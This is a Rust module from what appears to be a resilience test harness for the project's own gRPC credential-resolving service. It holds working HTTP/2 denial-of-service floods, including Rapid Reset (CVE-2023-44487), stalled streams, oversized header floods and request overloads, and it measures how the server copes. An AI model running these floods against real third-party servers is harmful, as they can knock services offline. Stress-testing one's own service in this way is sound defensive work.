//! The floods.

use std::{
    fmt,
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    time::{Duration, Instant},
};

use bytes::Bytes;
use h2::client::{self, SendRequest};
use http::Request;
use tokio::{
    net::TcpStream,
    task::{JoinHandle, JoinSet},
};

use crate::{
    callers::{Callers, What, percentile},
    site::{Site, Target},
};

/// Attackers at once.
const ATTACKERS: usize = 4;

#[derive(Clone, Copy)]
pub(crate) enum Attack {
    Nothing,
    /// Begins calls and gives up on each at once (CVE-2023-44487).
    RapidReset,
    /// A thousand calls whose message never comes.
    StalledStreams,
    /// Calls with more headers than allowed.
    Headers,
    /// As many callers as the honest ones.
    Polite,
    /// Ten times as many calls at once as are let in.
    Overload,
    /// The same of calls that read the database, and are let in up to half of it.
    Lists,
}

/// A flood that is going on.
pub(crate) struct Flood {
    tasks: JoinSet<()>,
    overload: Option<JoinHandle<Callers>>,
    sent: Arc<AtomicU64>,
    cut: Arc<AtomicU64>,
    what: &'static str,
    began: Instant,
}

/// What became of it.
pub(crate) struct Done {
    said: String,
    refused: Vec<f64>,
}

impl Attack {
    pub(crate) const ALL: [Self; 7] = [
        Self::Nothing,
        Self::Polite,
        Self::RapidReset,
        Self::StalledStreams,
        Self::Headers,
        Self::Overload,
        Self::Lists,
    ];

    pub(crate) fn begin(self, site: &Site) -> Flood {
        let (sent, cut) = (Arc::<AtomicU64>::default(), Arc::<AtomicU64>::default());
        let mut tasks = JoinSet::new();
        let target = &site.target;
        let mut overload = None;
        let crowd = |what: What, connections: usize, at_once: usize| {
            let target = site.target.clone();
            tokio::spawn(async move {
                Callers::run(&target, what, (connections, at_once), super::ROW).await
            })
        };
        let what = match self {
            Self::Nothing => "none",
            Self::Polite => {
                overload = Some(crowd(What::Resolves, 4, 4));
                "callers"
            }
            Self::Overload => {
                overload = Some(crowd(What::Resolves, 40, super::CALLS / 4));
                "callers"
            }
            Self::Lists => {
                overload = Some(crowd(What::Lists, 40, super::CALLS / 4));
                "callers"
            }
            Self::RapidReset => {
                for _ in 0..ATTACKERS {
                    tasks.spawn(pour(
                        target.clone(),
                        0,
                        true,
                        Arc::clone(&sent),
                        Arc::clone(&cut),
                    ));
                }
                "resets"
            }
            Self::StalledStreams => {
                for _ in 0..ATTACKERS {
                    tasks.spawn(stall(target.clone(), 1000 / ATTACKERS, Arc::clone(&sent)));
                }
                "stalled calls"
            }
            Self::Headers => {
                for _ in 0..ATTACKERS {
                    tasks.spawn(pour(
                        target.clone(),
                        60,
                        false,
                        Arc::clone(&sent),
                        Arc::clone(&cut),
                    ));
                }
                "calls with 60 KiB of headers"
            }
        };
        Flood {
            tasks,
            overload,
            sent,
            cut,
            what,
            began: Instant::now(),
        }
    }
}

impl fmt::Display for Attack {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Self::Nothing => "none",
            Self::RapidReset => "rapid reset, 4 attackers",
            Self::StalledStreams => "1,000 stalled calls",
            Self::Headers => "header flood, 4 attackers",
            Self::Polite => "as many polite callers again",
            Self::Overload => "2,560 resolves at once, ten times what is let in",
            Self::Lists => "2,560 reads of the database at once",
        })
    }
}

impl Flood {
    pub(crate) async fn end(mut self) -> Done {
        let seconds = self.began.elapsed().as_secs_f64();
        self.tasks.shutdown().await;
        if let Some(crowd) = self.overload {
            let crowd = crowd.await.unwrap();
            let said = format!(
                "{:.0} calls/s answered, {} refused",
                crowd.per_second(),
                crowd.refused.len()
            );
            return Done {
                said,
                refused: crowd.refused,
            };
        }
        let (sent, cut) = (
            self.sent.load(Ordering::Relaxed),
            self.cut.load(Ordering::Relaxed),
        );
        let said = match self.what {
            "none" => "none".to_owned(),
            "stalled calls" => format!("{sent} stalled calls"),
            what => format!(
                "{:.0} {what}/s, {cut} connections cut",
                sent as f64 / seconds
            ),
        };
        Done {
            said,
            refused: Vec::new(),
        }
    }
}

impl fmt::Display for Done {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.said)
    }
}

impl Done {
    pub(crate) fn refusals(&self) -> String {
        match self.refused.len() {
            0 => "–".to_owned(),
            _ => format!(
                "{:.1} / {:.1}",
                percentile(&self.refused, 0.5),
                percentile(&self.refused, 0.99)
            ),
        }
    }
}

impl Target {
    async fn connect(&self) -> SendRequest<Bytes> {
        loop {
            if let Ok(stream) = TcpStream::connect(self.host()).await
                && let Ok((sender, connection)) = client::handshake(stream).await
            {
                tokio::spawn(connection);
                return sender;
            }
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
    }

    fn call(&self, extra_headers: usize) -> Request<()> {
        let mut call = Request::post(format!(
            "{}/byok.v1.KeyService/ResolveCredentials",
            self.address
        ))
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .header("authorization", format!("Bearer {}", self.token));
        for n in 0..extra_headers {
            call = call.header(format!("x-flood-{n}"), "f".repeat(1000));
        }
        call.body(()).unwrap()
    }
}

/// Calls without an end, on a new connection whenever the old one is cut.
async fn pour(
    target: Target,
    headers: usize,
    gives_up: bool,
    sent: Arc<AtomicU64>,
    cut: Arc<AtomicU64>,
) {
    loop {
        let mut sender = target.connect().await;
        while let Ok(ready) = sender.clone().ready().await {
            sender = ready;
            let Ok((answer, mut stream)) = sender.send_request(target.call(headers), !gives_up)
            else {
                break;
            };
            if gives_up {
                stream.send_reset(h2::Reason::CANCEL);
                // The connection's own task has to write it.
                tokio::task::yield_now().await;
            } else {
                // Whatever it answers, the attacker goes on.
                drop(answer.await);
            }
            sent.fetch_add(1, Ordering::Relaxed);
        }
        cut.fetch_add(1, Ordering::Relaxed);
    }
}

async fn stall(target: Target, count: usize, sent: Arc<AtomicU64>) {
    let mut sender = target.connect().await;
    let mut held = Vec::new();
    for _ in 0..count {
        sender = sender
            .ready()
            .await
            .expect("a stream for each stalled call");
        held.push(sender.send_request(target.call(0), false).unwrap());
        sent.fetch_add(1, Ordering::Relaxed);
    }
    std::future::pending::<()>().await;
    drop(held);
}
